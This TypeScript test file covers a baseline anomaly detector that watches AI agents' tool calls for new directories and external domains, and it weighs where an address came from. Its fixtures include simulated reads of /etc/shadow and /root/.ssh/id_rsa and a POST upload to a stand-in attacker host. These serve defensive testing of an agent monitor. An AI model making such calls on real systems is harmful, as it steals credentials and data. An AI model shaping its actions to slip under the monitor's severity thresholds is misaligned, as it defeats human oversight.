import assert from "node:assert/strict";
import { test } from "node:test";
import type { CapturedExchange } from "../../../src/core/exchange.js";
import type { Finding } from "../../../src/core/finding.js";
import { argumentLeaves } from "../../../src/detectors/baseline/argument-values.js";
import { ResourceDetector } from "../../../src/detectors/baseline/index.js";
import {
  directoryOf,
  extractResources,
  registrableDomain,
} from "../../../src/detectors/baseline/resource-extraction.js";
import { FlowAnalysis, flowDetectors } from "../../../src/detectors/flow/index.js";
import { businessHour, learnThenScore, Random, SessionWriter, supportSession } from "./synthetic-traffic.js";

const random = new Random(7);

/** A build agent: reads and writes under its project, posts to its channel and to the company's CI host. */
function devopsSession(index: number): Array<{ tool: string; arguments: Record<string, unknown> }> {
  const file = random.pick(["src/main.ts", "src/util.ts", "test/main.test.ts", "package.json"]);
  return [
    { tool: "read_file", arguments: { path: `/srv/app/${file}` } },
    { tool: "write_file", arguments: { path: `/srv/app/${file}`, content: "export const x = 1;" } },
    { tool: "post_message", arguments: { channel: "#builds", text: `build ${index} passed` } },
    { tool: "http_request", arguments: { url: `https://ci.buildhost.example/job/${index}`, method: "GET" } },
  ];
}

function baselineTraffic(): CapturedExchange[] {
  const devops = new SessionWriter("devops", "dee", random);
  const support = new SessionWriter("support", "ben", random);
  for (let index = 0; index < 200; index++) {
    devops.session(devopsSession(index), businessHour(random, index));
    support.session(supportSession(random, index), businessHour(random, index));
  }
  return [...devops.all(), ...support.all()].sort((a, b) => Date.parse(a.time) - Date.parse(b.time));
}
const baseline = baselineTraffic();

function resourceFindings(scored: CapturedExchange[]): Finding[] {
  return learnThenScore([new ResourceDetector()], baseline, scored);
}

function devops(
  calls: Array<{ tool: string; arguments: Record<string, unknown>; result?: string }>,
): CapturedExchange[] {
  const writer = new SessionWriter("devops", "dee", random);
  writer.session(calls, businessHour(random, 5));
  return writer.all();
}

test("resources are read from paths, addresses, links inside text and channels", () => {
  assert.equal(directoryOf("/home/ana/docs/report.txt"), "/home/ana");
  assert.equal(directoryOf("/etc/passwd"), "/etc");
  assert.equal(directoryOf("C:\\Users\\ana\\x.txt"), "c:/users");
  assert.equal(registrableDomain("mail.eu.example.co.uk"), "example.co.uk");
  assert.equal(registrableDomain("WWW.Example.org:8080"), "example.org");
  const resources = extractResources(
    argumentLeaves({
      to: "ana@mail.example.org",
      body: "see https://files.other.example/x and write to bob@third.example",
      path: "/var/log/app.log",
      channel: "#ops",
      ticket_id: "T-1",
    }),
  );
  assert.deepEqual(
    resources.map((resource) => `${resource.kind}:${resource.name}`),
    ["domain:example.org", "domain:other.example", "domain:third.example", "directory:/var/log", "channel:ops"],
  );
});

test("normal traffic of both agents raises nothing above low, though every support reply reaches a new company", () => {
  const devopsWriter = new SessionWriter("devops", "dee", random);
  const supportWriter = new SessionWriter("support", "ben", random);
  for (let index = 0; index < 50; index++) {
    devopsWriter.session(devopsSession(index), businessHour(random, index));
    supportWriter.session(supportSession(random, 7000 + index), businessHour(random, index));
  }
  const findings = resourceFindings([...devopsWriter.all(), ...supportWriter.all()]);
  assert.ok(findings.every((finding) => finding.severity === "low"));
  assert.ok(findings.every((finding) => finding.agent === "support"));
});

test("a new top-level directory and a new external domain on a sending tool are medium resource anomalies", () => {
  const findings = resourceFindings(
    devops([
      { tool: "read_file", arguments: { path: "/etc/shadow" } },
      { tool: "http_request", arguments: { url: "https://collector.attacker.example/upload", method: "POST" } },
      { tool: "post_message", arguments: { channel: "#builds", text: "see https://paste.elsewhere.example/abc" } },
    ]),
  );
  const directory = findings.find((finding) => finding.evidence.kind === "new_directory");
  assert.ok(directory);
  assert.equal(directory.severity, "medium");
  assert.equal(directory.evidence.resource, "/etc");
  assert.match(
    directory.message,
    /read_file reaches directory \/etc \(in path\), outside every directory agent type devops/,
  );
  const domains = findings.filter((finding) => finding.evidence.kind === "new_domain");
  assert.equal(domains.length, 2);
  // http_request does not say it sends; post_message does.
  assert.equal(domains[0]!.severity, "low");
  assert.equal(domains[1]!.severity, "medium");
  assert.equal(domains[1]!.evidence.resource, "elsewhere.example");
});

test("a saved resource model loads into a fresh detector that saves the same state and raises the same findings", () => {
  const trained = new ResourceDetector();
  const scored = devops([{ tool: "read_file", arguments: { path: "/root/.ssh/id_rsa" } }]);
  const before = learnThenScore([trained], baseline, scored);
  const state = JSON.parse(JSON.stringify(trained.saveBaseline())) as unknown;
  const loaded = new ResourceDetector();
  assert.equal(loaded.loadBaseline(state), null);
  assert.deepEqual(loaded.saveBaseline(), state);
  assert.deepEqual(learnThenScore([loaded], [], scored), before);
  assert.equal(before.length, 1);
});

test("with provenance, a new domain in an address read from the session's data is low; the same domain typed from nowhere stays medium", () => {
  const analysis = new FlowAnalysis();
  const detector = new ResourceDetector({
    provenance: (exchange, position, argument) => analysis.argumentSource(exchange, position, argument),
  });
  const findings = learnThenScore([detector, ...flowDetectors({ analysis })], baseline, [
    ...devops([
      {
        tool: "read_file",
        arguments: { path: "/srv/app/CONTRIBUTING.md" },
        result: "Maintainer: Jo Lund <jo@oss-builds.example>. Release notes go to the maintainer.",
      },
      { tool: "send_email", arguments: { to: "jo@oss-builds.example", body: "release 2.1 notes attached" } },
    ]),
    ...devops([{ tool: "send_email", arguments: { to: "ops@other-builds.example", body: "release 2.1 notes" } }]),
  ]).filter((finding) => finding.evidence.kind === "new_domain");
  const read = findings.find((finding) => finding.evidence.resource === "oss-builds.example");
  assert.ok(read);
  assert.equal(read.severity, "low");
  assert.deepEqual(read.evidence.read_from, { from_call: 0, from_tool: "read_file" });
  const fromNowhere = findings.find((finding) => finding.evidence.resource === "other-builds.example");
  assert.ok(fromNowhere);
  assert.equal(fromNowhere.severity, "medium");
});
